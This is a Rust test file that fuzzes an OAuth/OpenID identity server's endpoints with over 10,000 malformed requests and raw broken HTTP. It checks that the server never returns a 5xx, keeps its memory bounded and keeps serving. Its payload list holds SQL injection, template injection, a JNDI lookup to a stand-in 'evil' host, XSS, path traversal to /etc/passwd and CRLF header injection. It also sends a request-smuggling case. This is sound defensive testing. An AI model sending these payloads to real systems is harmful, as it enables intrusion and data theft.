//! The hostile-input suite: 10,000+ generated malformed requests across every endpoint (random
//! bytes, broken percent-encoding, invalid UTF-8, JSON where a form is expected and the reverse,
//! deeply nested JSON, oversized bodies and headers, junk credentials and cookies, SQL and
//! template injection strings in every field), on SQLite and on PostgreSQL. None may get a 5xx; afterwards the server is ready
//! and serves a normal login, and the process's memory stayed bounded.

use actix_web::test;

use crate::support::{Fixture, fixture, fixture_postgres, form, send};

/// xorshift64*: deterministic, so a failure reproduces.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
    fn bytes(&mut self, max: usize) -> Vec<u8> {
        let n = self.below(max + 1);
        (0..n).map(|_| self.next() as u8).collect()
    }
}

const NASTY: [&str; 14] = [
    "' OR '1'='1' --",
    "\"; DROP TABLE users; --",
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${jndi:ldap://evil/x}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%00",
    "%",
    "%G1%zz",
    "\u{202e}\u{0000}\u{ffff}",
    "a\r\nSet-Cookie: x=1",
    "00000000-0000-0000-0000-000000000000",
    "@me",
];

const FIELDS: [&str; 22] = [
    "grant_type",
    "username",
    "password",
    "client_id",
    "client_secret",
    "refresh_token",
    "code",
    "redirect_uri",
    "code_verifier",
    "scope",
    "token",
    "token_type_hint",
    "response_type",
    "state",
    "nonce",
    "code_challenge",
    "code_challenge_method",
    "prompt",
    "csrf_token",
    "decision",
    "id_token_hint",
    "post_logout_redirect_uri",
];

fn value(rng: &mut Rng) -> String {
    match rng.below(5) {
        0 => rng.pick(&NASTY).to_string(),
        1 => "x".repeat(rng.below(5000)),
        2 => String::from_utf8_lossy(&rng.bytes(40)).into_owned(),
        3 => rng
            .pick(&[
                "password",
                "client_credentials",
                "refresh_token",
                "authorization_code",
                "code",
                "allow",
                "deny",
                "S256",
                "plain",
                "none",
                "login",
            ])
            .to_string(),
        _ => format!("{:x}", rng.next()),
    }
}

/// A body in one of many broken shapes, with the content type it claims.
fn body(rng: &mut Rng) -> (Option<&'static str>, Vec<u8>) {
    let content_type = *rng.pick(&[
        Some("application/x-www-form-urlencoded"),
        Some("application/json"),
        Some("text/plain"),
        Some("multipart/form-data; boundary=x"),
        Some("application/x-www-form-urlencoded; charset=latin1"),
        None,
    ]);
    let bytes = match rng.below(8) {
        0 => rng.bytes(2048),
        1 => {
            let pairs: Vec<String> = (0..rng.below(8))
                .map(|_| format!("{}={}", rng.pick(&FIELDS), value(rng)))
                .collect();
            pairs.join("&").into_bytes()
        }
        2 => {
            let mut map = serde_json::Map::new();
            for _ in 0..rng.below(8) {
                map.insert(
                    rng.pick(&FIELDS).to_string(),
                    serde_json::Value::String(value(rng)),
                );
            }
            serde_json::Value::Object(map).to_string().into_bytes()
        }
        3 => {
            let depth = 1 + rng.below(20_000);
            format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes()
        }
        4 => b"grant_type=password&username=%ff%fe&password=%C0%AF%".to_vec(),
        5 => vec![0xff, 0xfe, b'=', 0xc3, 0x28, b'&', b'%', b'2'],
        6 => vec![b'a'; 70 * 1024],
        _ => rng.pick(&NASTY).as_bytes().to_vec(),
    };
    (content_type, bytes)
}

fn authorization(rng: &mut Rng) -> Option<String> {
    match rng.below(6) {
        0 => None,
        1 => Some(format!("Bearer {}", value(rng))),
        2 => Some(format!("Basic {}", value(rng))),
        3 => Some("Basic Zm9vOmJhcg==".into()),
        4 => Some(format!("Bearer eyJhbGciOiJub25lIn0.{}.", value(rng))),
        _ => Some("Negotiate abc".into()),
    }
}

fn query(rng: &mut Rng) -> String {
    let mut parts: Vec<String> = (0..rng.below(6))
        .map(|_| {
            let raw: String = value(rng).chars().take(200).collect();
            // Mostly encoded; sometimes raw but with only characters a URI may carry, so the
            // broken percent-encoding reaches the server.
            let v = if rng.below(3) == 0 {
                raw.chars()
                    .filter(|c| c.is_ascii_alphanumeric() || "%-._~!$'()*+,;=:@/?".contains(*c))
                    .collect()
            } else {
                crate::support::urlencode(&raw)
            };
            format!("{}={}", rng.pick(&FIELDS), v)
        })
        .collect();
    if rng.below(4) == 0 {
        parts.push("page%5Blimit%5D=99999&filter[x]=%ZZ&sort=-".into());
    }
    if parts.is_empty() {
        String::new()
    } else {
        format!("?{}", parts.join("&"))
    }
}

fn rss_kib() -> u64 {
    std::fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .find(|l| l.starts_with("VmRSS:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

#[actix_web::test]
async fn ten_thousand_hostile_requests_get_no_5xx_on_sqlite() {
    hostile_requests_get_no_5xx(fixture(), 10_500).await;
}

/// The same generator on PostgreSQL, which refuses what SQLite stores (NUL in text).
#[actix_web::test]
async fn hostile_requests_get_no_5xx_on_postgres() {
    hostile_requests_get_no_5xx(fixture_postgres(), 10_500).await;
}

#[allow(clippy::await_holding_lock)]
async fn hostile_requests_get_no_5xx(fx: Fixture, count: usize) {
    // Its memory bound is measured on the whole process: no other heavy test runs meanwhile.
    let _heavy = crate::support::heavy();
    let app = test::init_service(portcullis_server::app(fx.state.clone())).await;
    let doc: serde_json::Value =
        serde_json::from_str(portcullis_server::admin::openapi::document()).unwrap();
    let mut paths: Vec<String> = [
        "/token",
        "/realms/master/token",
        "/realms/nope/token",
        "/token/introspect",
        "/token/revoke",
        "/realms/master/token/introspect",
        "/authorize",
        "/realms/master/authorize",
        "/authorize/login",
        "/authorize/consent",
        "/realms/master/authorize/login",
        "/userinfo",
        "/realms/master/userinfo",
        "/logout",
        "/realms/master/logout",
        "/jwks",
        "/realms/master/jwks",
        "/realms/%ff/jwks",
        "/.well-known/openid-configuration",
        "/realms/master/.well-known/openid-configuration",
        "/health/live",
        "/health/ready",
        "/metrics",
        "/docs",
        "/openapi.json",
        "/nope",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    paths.extend(doc["paths"].as_object().unwrap().keys().cloned());
    let ids = [
        "@me",
        "00000000-0000-0000-0000-000000000000",
        "admin",
        "%ff",
        "'",
        "x".repeat(300).as_str(),
    ]
    .map(str::to_owned);
    let admin = {
        let login = form(&[
            ("grant_type", "password"),
            ("username", "admin"),
            ("password", "start123"),
        ]);
        let (_, _, tokens) = send(&app, login).await;
        tokens["access_token"].as_str().unwrap().to_owned()
    };
    let mut rng = Rng(0x5eed_1234_abcd_0001);
    let before = rss_kib();
    let mut sent = 0;
    let mut by_status = std::collections::BTreeMap::new();
    while sent < count {
        let id: String = rng.pick(&ids[..]).clone();
        let path = rng.pick(&paths[..]).replace("{id}", &id);
        let uri = format!("{path}{}", query(&mut rng));
        let method = rng.below(4);
        let mut req = match method {
            0 => test::TestRequest::get(),
            1 | 2 => test::TestRequest::post(),
            _ => test::TestRequest::delete(),
        }
        .uri(&uri);
        if method != 0 {
            let (content_type, bytes) = body(&mut rng);
            req = req.set_payload(bytes);
            if let Some(ct) = content_type {
                req = req.insert_header(("content-type", ct));
            }
        }
        // An admin's valid token on a sixth of the reads and writes, so the admin API's bodies,
        // ids and queries are exercised past authentication.
        let auth = if method < 3 && rng.below(6) == 0 {
            Some(format!("Bearer {admin}"))
        } else {
            authorization(&mut rng)
        };
        if let Some(auth) = auth
            && let Ok(value) = actix_web::http::header::HeaderValue::from_str(&auth)
        {
            req = req.insert_header(("authorization", value));
        }
        if rng.below(4) == 0 {
            req = req.insert_header((
                "cookie",
                format!(
                    "portcullis_session={}; portcullis_csrf={}",
                    rng.next(),
                    "%".repeat(rng.below(3000))
                ),
            ));
        }
        if rng.below(10) == 0 {
            req = req.insert_header(("x-forwarded-for", "1.2.3.4, nonsense, ::1"));
            req = req.insert_header(("x-huge", "h".repeat(16 * 1024)));
        }
        let (status, _, body) = send(&app, req).await;
        assert!(status < 500, "{uri}: {status} {body}");
        *by_status.entry(status).or_insert(0u32) += 1;
        sent += 1;
    }
    let grown = rss_kib().saturating_sub(before);
    eprintln!("{sent} hostile requests; statuses {by_status:?}; RSS grew {grown} KiB");
    assert!(grown < 200 * 1024, "memory grew {grown} KiB");
    assert!(by_status.keys().any(|s| *s == 200) && by_status.keys().any(|s| *s == 400));
    let (ready, _, _) = send(&app, test::TestRequest::get().uri("/health/ready")).await;
    assert_eq!(ready, 200);
    let login = form(&[("grant_type", "client_credentials")]);
    let (_, _, answer) = send(&app, login).await;
    assert_eq!(
        answer["error"], "invalid_client",
        "still answering precisely: {answer}"
    );
}

/// What only the real HTTP parser sees: oversized headers, garbage request lines, smuggling
/// attempts. Each gets a 4xx or a closed connection, never a 5xx, and the server keeps serving.
#[core::prelude::v1::test]
fn the_real_parser_refuses_garbage_and_keeps_serving() {
    use std::io::{Read, Write};
    let dir = tempfile::tempdir().unwrap();
    let db = crate::support::Db::sqlite(dir.path());
    let server = crate::support::Server::start(&db, dir.path());
    let addr = server.base.trim_start_matches("http://").to_owned();
    let cases: Vec<Vec<u8>> = vec![
        format!("GET /health/live HTTP/1.1\r\nHost: x\r\nX-Huge: {}\r\n\r\n", "h".repeat(128 * 1024)).into_bytes(),
        format!("GET /{} HTTP/1.1\r\nHost: x\r\n\r\n", "a".repeat(64 * 1024)).into_bytes(),
        b"\x00\x01\x02 garbage \xff\xfe\r\n\r\n".to_vec(),
        b"POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".to_vec(),
        b"POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n".to_vec(),
        b"POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n".to_vec(),
        b"GET /health/live HTTP/9.9\r\n\r\n".to_vec(),
        (0..200).map(|i| format!("X-H{i}: v\r\n")).fold(b"GET /health/live HTTP/1.1\r\nHost: x\r\n".to_vec(), |mut acc, h| {
            acc.extend(h.bytes());
            acc
        })
        .into_iter()
        .chain(b"\r\n".iter().copied())
        .collect(),
    ];
    for (i, case) in cases.iter().enumerate() {
        let mut stream = std::net::TcpStream::connect(&addr).unwrap();
        stream
            .set_read_timeout(Some(std::time::Duration::from_secs(5)))
            .unwrap();
        let _ = stream.write_all(case);
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        let head = String::from_utf8_lossy(&answer[..answer.len().min(12)]).into_owned();
        assert!(
            answer.is_empty() || head.starts_with("HTTP/1.1 4") || head.starts_with("HTTP/1.1 2"),
            "case {i}: {head:?}"
        );
    }
    let ready = reqwest::blocking::get(format!("{}/health/ready", server.base)).unwrap();
    assert_eq!(ready.status(), 200);
    let logs = server.logs();
    assert!(!logs.contains("panicked"), "{logs}");
}
